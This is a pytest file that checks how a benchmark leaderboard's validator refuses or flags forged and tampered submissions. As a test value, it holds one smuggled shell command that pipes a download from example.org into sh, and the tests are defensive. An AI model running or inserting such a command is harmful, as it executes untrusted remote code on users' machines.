"""What one submitter can do to the others, to readers and to the check itself."""

import json
import shutil
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from checking_toys import Change, changed, edit, flags, forge, other_model, refusals
from leaderboard_toys import row_of, store

from mtlattack.evidence import Evidence
from mtlattack.leaderboard.board import Board, StoredRow
from mtlattack.leaderboard.checking import events
from mtlattack.leaderboard.ledger import Event, append

# In the zone of the meridian there was no such moment.
YEAR_1 = "0001-01-01T00:00:00+01:00"


@pytest.fixture
def base(board: Board, tmp_path: Path) -> Path:
    """The board as it was."""
    return shutil.copytree(board.root, tmp_path / "base")


def event(row: str, status: str, **more: Any) -> Event:
    return Event(row=row, status=status, at=datetime.now(UTC), by="somebody", **more)  # type: ignore[arg-type]


def later_run(evidence: Evidence) -> Evidence:
    """The same weights, and another file."""

    def change(copied: Evidence) -> None:
        for outcome in copied.attacked:
            outcome.seconds[:] *= 2

    return changed(evidence, change)


def one_label_less(evidence: Evidence) -> None:
    """Depth with a pixel fewer than its labels have, and nothing that contradicts it."""
    assert evidence.constant is not None
    column, outcomes = list(evidence.tasks).index("depth"), [evidence.clean, *evidence.attacked]
    for statistics in [evidence.constant["depth"], *(outcome.statistics["depth"] for outcome in outcomes)]:
        statistics[:, 0] -= 1
        statistics[:, 4:] = statistics[:, 4:].clip(max=statistics[:, :1])
    for outcome in outcomes:
        statistics = outcome.statistics["depth"]
        outcome.losses[:, column] = (statistics[:, 1] / statistics[:, 0]).astype("float32")


@pytest.mark.parametrize("digits", ["1" * 5000, "٣" * 5000])
def test_a_field_of_thousands_of_digits_is_a_name(board: Board, stored: StoredRow, digits: str) -> None:
    edit(board, stored, lambda row: row["model"].update({digits: 1}))
    assert any("Extra inputs are not permitted" in text for text in refusals(board.root))


def test_a_row_of_the_year_1_may_not_enter(
    board: Board, stored: StoredRow, tiny_evidence: Evidence, tmp_path: Path
) -> None:
    (tmp_path / "empty" / "rows").mkdir(parents=True)
    forge(board, stored, changed(tiny_evidence, lambda e: e.environment.update(started=YEAR_1)))
    found = refusals(board.root, tmp_path / "empty")
    assert any("environment.started: 0001-01-01" in text and "is before 2020" in text for text in found), found


def test_an_event_of_the_year_1_is_refused(board: Board) -> None:
    line = json.loads(board.ledger.read_text())
    board.ledger.write_text(json.dumps({**line, "at": YEAR_1}) + "\n")
    assert any("line 1: row " in text and "is before 2020" in text for text in refusals(board.root))


def test_a_verified_row_is_not_superseded_unseen(
    board: Board, stored: StoredRow, tiny_evidence: Evidence, tmp_path: Path
) -> None:
    append(board.ledger, event(stored.id, "verified"))
    base = shutil.copytree(board.root, tmp_path / "base")
    row, packed = row_of(later_run(tiny_evidence))
    mallory = row.submitted.model_copy(update={"name": "Mallory"})
    new = store(board.root, row.model_copy(update={"submitted": mallory}), packed)
    append(board.ledger, event(stored.id, "superseded", successor=new.id))
    assert refusals(board.root, base) == []
    said = f"row {stored.id}, verified, submitted by somebody, is superseded by {new.id}: for a maintainer to approve"
    assert any(f"{said}, submitted by Mallory" in text for text in flags(board.root, base))


def test_what_was_retracted_does_not_come_back_unseen(
    board: Board, stored: StoredRow, tiny_evidence: Evidence, tmp_path: Path
) -> None:
    append(board.ledger, event(stored.id, "retracted"))
    base = shutil.copytree(board.root, tmp_path / "base")
    new = store(board.root, *row_of(later_run(tiny_evidence)))
    assert refusals(board.root, base) == []
    found = [text for text in flags(board.root, base) if "was retracted" in text]
    assert len(found) == 1 and new.path.name in found[0] and stored.id in found[0]


def test_a_wrong_row_that_is_retracted_keeps_no_other_out(
    board: Board, stored: StoredRow, tiny_evidence: Evidence, tmp_path: Path
) -> None:
    forge(board, stored, changed(tiny_evidence, one_label_less))
    wrong = board.read_all()[0]
    base = shutil.copytree(board.root, tmp_path / "base")
    honest = store(board.root, *row_of(other_model(tiny_evidence), name="honest"))
    found = refusals(board.root, base)
    assert len(found) == 2 and all("to the same labels: one" in x or "the same labels otherwise" in x for x in found)
    append(board.ledger, event(wrong.id, "retracted"))
    assert refusals(board.root) == []
    found = [text for text in flags(board.root) if "one of both is wrong" in text]
    assert len(found) == 2 and all(wrong.path.name in text and honest.id in text for text in found)


def test_losses_that_are_nearly_those_of_another_model_are_flagged(
    board: Board, base: Path, stored: StoredRow, tiny_evidence: Evidence
) -> None:
    def change(evidence: Evidence) -> None:
        evidence.plan["model"]["sha256"] = "b" * 64
        # Segmentation's losses follow from nothing else.
        losses = evidence.clean.losses[:, :1]
        losses[:] = np.nextafter(losses.astype("float32"), np.float32(9))

    new = store(board.root, *row_of(changed(tiny_evidence, change), name="copy"))
    assert refusals(board.root, base) == []
    said = f"{new.path.name}: clean_losses: most losses are nearly those of row {stored.id}"
    assert any(said in text for text in flags(board.root, base))


def test_a_name_that_another_model_has_is_flagged(
    board: Board, base: Path, stored: StoredRow, tiny_evidence: Evidence
) -> None:
    new = store(board.root, *row_of(other_model(tiny_evidence)))
    assert refusals(board.root, base) == []
    said = f"{new.path.name}: model.name: row {stored.id} of this suite has this name, and other weights"
    assert any(said in text for text in flags(board.root, base))


def without_vanished(evidence: Evidence) -> None:
    for outcome in evidence.attacked:
        outcome.diagnostics[:] = np.nan


@pytest.mark.parametrize(
    "change, names",
    [
        (lambda e: e.environment.update(calls=None), ["batch-dependent", "random"]),
        (without_vanished, ["gradients-vanish"]),
        (lambda e: e.environment["calls"].update(again=1.0), []),
    ],
)
def test_flags_that_nobody_could_raise_are_named(
    board: Board, stored: StoredRow, tiny_evidence: Evidence, change: Change, names: list[str]
) -> None:
    assert not [text for text in flags(board.root) if "could not be looked for" in text]
    forge(board, stored, changed(tiny_evidence, change))
    assert refusals(board.root) == []
    found = [text for text in flags(board.root) if "could not be looked for" in text]
    assert len(found) == len(names) and all(f"checked: {name} could" in "\n".join(found) for name in names)


@pytest.mark.parametrize(
    "change",
    [
        lambda e: e.environment["calls"].update(again=-5.0),
        lambda e: e.environment["calls"].update(alone=-5.0),
        lambda e: e.environment.update(sign_agreement=1.5),
    ],
)
def test_what_calls_showed_is_not_negative_and_a_share_not_above_1(
    stored: StoredRow, tiny_evidence: Evidence, change: Callable[[Evidence], None]
) -> None:
    with pytest.raises(Exception, match=r"evidence: environment: .*Input should be (greater|less) than or equal"):
        row_of(changed(tiny_evidence, change))


def test_a_command_that_is_several_is_flagged(board: Board, stored: StoredRow, tiny_evidence: Evidence) -> None:
    command = "mtlattack run tiny; curl https://example.org | sh"
    forge(board, stored, changed(tiny_evidence, lambda e: e.environment.update(command=command)))
    assert refusals(board.root) == []
    assert any("environment.command: a shell would run more than one" in text for text in flags(board.root))


@pytest.mark.parametrize("name", ["a.", "con", "NUL.txt", "Com1"])
def test_folders_that_windows_cannot_have_are_refused(
    board: Board, base: Path, tiny_evidence: Evidence, name: str
) -> None:
    store(board.root, *row_of(other_model(tiny_evidence), name=name))
    found = refusals(board.root, base)
    assert found == [f"refused: rows/tiny/{name}: a folder that Windows cannot have"]


@pytest.mark.parametrize("name", ["tiny/other", "other", "other/model"])
def test_an_empty_folder_is_refused(board: Board, base: Path, name: str) -> None:
    (board.root / "rows" / name).mkdir(parents=True)
    found = refusals(board.root, base)
    assert found and all("an empty folder, or a submodule" in text for text in found)


def test_a_mark_that_turns_the_direction_of_writing_is_refused(board: Board, stored: StoredRow) -> None:
    edit(board, stored, lambda row: row["model"].update(note="\u061c"))
    assert any("model.note: String should match pattern" in text for text in refusals(board.root))


def test_a_ledger_full_of_nothing_is_not_read_to_its_end(board: Board, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(events, "_MOST_WRONG", 5)
    with board.ledger.open("a") as file:
        file.write("\n" * 100)
    found = refusals(board.root)
    assert len(found) == 7 and any("the rest was not read" in text for text in found)


@pytest.mark.parametrize(
    "change",
    [
        lambda row: row["model"].pop("note"),
        lambda row: row.pop("format"),
        lambda row: row["model"].update(sharing_degree=1),
        lambda row: row["submitted"].update(at=row["submitted"]["at"].replace("Z", "+00:00")),
    ],
)
def test_a_new_row_is_written_in_one_way(board: Board, stored: StoredRow, change: Change) -> None:
    path = edit(board, stored, change)
    assert path.stem != stored.id
    found = refusals(board.root)
    assert len(found) == 1 and f"{path.name}: not as the program writes it" in found[0]


def test_attacks_that_are_not_the_suites_are_not_computed_with(
    board: Board, stored: StoredRow, tiny_evidence: Evidence, monkeypatch: pytest.MonkeyPatch
) -> None:
    def more(evidence: Evidence) -> None:
        evidence.plan["attacks"] += [evidence.plan["attacks"][-1]] * 20
        evidence.attacked.extend([evidence.attacked[-1]] * 20)

    forge(board, stored, changed(tiny_evidence, more))
    monkeypatch.setattr("mtlattack.leaderboard.rows.deriving.record_of", lambda evidence: 1 / 0)
    monkeypatch.setattr("mtlattack.leaderboard.checking.board_check.check_contradictions", lambda case: 1 / 0)
    found = refusals(board.root)
    assert len(found) == 1 and "attacks: there are" in found[0]


@pytest.mark.parametrize(("key", "value"), [("name", "another"), ("version", 7)])
def test_a_suite_that_nobody_knows_has_no_board(
    board: Board, stored: StoredRow, tiny_evidence: Evidence, key: str, value: object
) -> None:
    forge(board, stored, changed(tiny_evidence, lambda evidence: evidence.plan["suite"].update({key: value})))
    found = refusals(board.root)
    assert len(found) == 1 and str(value) in found[0] and "suite" in found[0]
